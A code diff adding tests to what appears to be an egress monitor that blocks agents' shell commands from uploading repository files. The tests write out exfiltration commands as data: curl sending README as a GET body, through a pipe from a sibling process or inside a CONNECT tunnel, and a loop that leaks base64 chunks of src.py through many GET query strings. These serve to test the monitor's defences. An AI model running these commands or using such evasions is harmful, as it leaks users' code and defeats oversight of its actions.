@@ -336,6 +336,44 @@ def test_an_upload_to_an_allowed_host_after_reading_repository_files_is_unsure(r
     assert "README" in out.reason and "POST" in out.reason
 
 
+@pytest.mark.parametrize("send", [
+    "curl -sS -m 10 -X GET --data-binary @README http://{host}/simple/",       # a GET's body
+    "cat README | curl -sS -m 10 --data-binary @- http://{host}/upload",         # a sibling read it
+    "curl -sS -m 10 -p -X POST --data-binary @README http://{host}/upload",     # plain text in a tunnel
+])
+def test_an_upload_the_method_or_the_sender_hid_is_still_unsure(registry, ws, home, tmp_path,
+                                                                 send):
+    """Round 4: a GET carrying the file as its body, a POST whose data a
+    sibling process read (the rule asked only the sender's own reads), and a
+    plain-text request inside a CONNECT tunnel (no method caper can see)
+    were committed as downloads."""
+    out = _run(send.format(host=registry.host), ws, home, tmp_path, allow=[registry.host])
+    assert out.decision == "block" and out.reason.startswith("unsure"), out.reason
+    assert "README" in out.reason and not out.committed
+
+
+def test_many_small_requests_that_add_up_to_an_upload_are_unsure(registry, ws, home, tmp_path):
+    """Round 4: 30 KB of a tracked file as the query strings of many GETs,
+    each too small to be an upload, was committed; the run's sum is judged
+    (the report's entry for the requests past its list holds theirs), and
+    the long URLs reach the host whole (the proxy used to cut them at 512)."""
+    (ws / "src.py").write_text("".join(f"line_{i:05d} = {i * 7919}\n" for i in range(1500)))
+    out = _run("base64 -w0 src.py | fold -w 2000 | while read c; do "
+               f"curl -sS -m 10 -o /dev/null \"http://{registry.host}/q?d=$c\"; done",
+               ws, home, tmp_path, allow=[registry.host])
+    assert out.decision == "block" and out.reason.startswith("unsure"), out.reason
+    assert "src.py" in out.reason and not out.committed
+    sent = [p for m, p in registry.requests if p.startswith("/q?d=")]
+    assert len(sent) > 10 and all(len(p) == len("/q?d=") + 2000 for p in sent[:-1])
+
+
+def test_a_download_after_reading_repository_files_stays_a_download(registry, ws, home,
+                                                                    tmp_path):
+    out = _run(f"cat README >/dev/null; curl -sS -m 10 -o page http://{registry.host}/simple/",
+               ws, home, tmp_path, allow=[registry.host])
+    assert out.committed, out.reason
+
+
 def test_a_connection_caper_cannot_attribute_is_refused(registry, ws, home, tmp_path):
     """From another loopback address the peer's socket is not where the proxy
     looks: no process to judge, so no way out."""
